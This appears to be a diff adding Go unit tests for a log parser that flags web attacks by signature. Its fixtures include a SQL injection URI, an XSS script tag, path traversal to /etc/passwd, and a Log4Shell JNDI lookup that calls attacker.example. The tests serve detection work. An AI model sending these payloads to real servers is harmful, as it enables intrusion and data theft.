@@ -0,0 +1,133 @@
+package parser
+
+import (
+	"bytes"
+	"context"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestLoadSignatures(t *testing.T) {
+	tests := []struct {
+		name    string
+		input   string
+		want    int
+		wantErr bool
+	}{
+		{
+			name:  "valid",
+			input: "# comment\n\n1 sqli - (?i)union select\n2 xss request_uri <script\n",
+			want:  2,
+		},
+		{
+			name:    "invalid syntax",
+			input:   "1 sqli\n",
+			wantErr: true,
+		},
+		{
+			name:    "invalid pattern",
+			input:   "1 sqli - (\n",
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			set, err := LoadSignatures(strings.NewReader(tt.input))
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("\ngot:\n%v\nwant:\n%v\n", err, tt.wantErr)
+			}
+			if err == nil && len(set.signatures) != tt.want {
+				t.Errorf("\ngot:\n%v\nwant:\n%v\n", len(set.signatures), tt.want)
+			}
+		})
+	}
+}
+
+func TestSignatureSet_Match(t *testing.T) {
+	set := DefaultSignatures()
+	tests := []struct {
+		name  string
+		label string
+		value string
+		want  []string
+	}{
+		{
+			name:  "clean",
+			label: "request_uri",
+			value: "/search?q=union+station",
+			want:  nil,
+		},
+		{
+			name:  "sqli",
+			label: "request_uri",
+			value: "/item?id=1%20UNION%20SELECT%20password%20FROM%20users",
+			want:  []string{"942100"},
+		},
+		{
+			name:  "xss in referer",
+			label: "referer",
+			value: "http://example.com/?q=<script>alert(1)</script>",
+			want:  []string{"941100"},
+		},
+		{
+			name:  "path traversal and lfi",
+			label: "request_uri",
+			value: "/static/../../../etc/passwd",
+			want:  []string{"930100", "930120"},
+		},
+		{
+			name:  "encoded traversal",
+			label: "request_uri",
+			value: "/static/%2e%2e%2f%2e%2e%2fboot.ini",
+			want:  []string{"930100"},
+		},
+		{
+			name:  "jndi in user agent",
+			label: "user_agent",
+			value: "${jndi:ldap://attacker.example/a}",
+			want:  []string{"944100"},
+		},
+		{
+			name:  "field not evaluated",
+			label: "remote_host",
+			value: "<script>",
+			want:  nil,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var got []string
+			for _, s := range set.Match(Record{Labels: []string{tt.label}, Values: []string{tt.value}}) {
+				got = append(got, s.ID)
+			}
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("\ngot:\n%v\nwant:\n%v\n", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestWithSignatures(t *testing.T) {
+	input := strings.Join([]string{
+		`192.0.2.1 - - [10/Oct/2000:13:55:36 -0700] "GET /index.html HTTP/1.1" 200 2326 "-" "Mozilla/5.0"`,
+		`192.0.2.2 - - [10/Oct/2000:13:55:37 -0700] "GET /item?id=1%27%20or%20%271%27=%271 HTTP/1.1" 200 2326 "-" "sqlmap/1.7"`,
+		`192.0.2.3 - - [10/Oct/2000:13:55:38 -0700] "GET /../../etc/passwd HTTP/1.1" 404 0 "-" "${jndi:ldap://x/a}"`,
+	}, "\n")
+	buf := &bytes.Buffer{}
+	p := NewApacheCLFRegexParser(context.Background(), buf, Option{
+		Labels:      []string{"remote_host", "attack", "attack_rules"},
+		Enrichers:   []Enricher{WithSignatures(DefaultSignatures())},
+		PostFilters: []string{"attack =~ ."},
+	})
+	if _, err := p.ParseString(input); err != nil {
+		t.Fatal(err)
+	}
+	want := strings.Join([]string{
+		`{"remote_host":"192.0.2.2","attack":"sqli","attack_rules":"942100"}`,
+		`{"remote_host":"192.0.2.3","attack":"path-traversal,lfi,java","attack_rules":"930100,930120,944100"}`,
+	}, "\n") + "\n"
+	if got := buf.String(); got != want {
+		t.Errorf("\ngot:\n%v\nwant:\n%v\n", got, want)
+	}
+}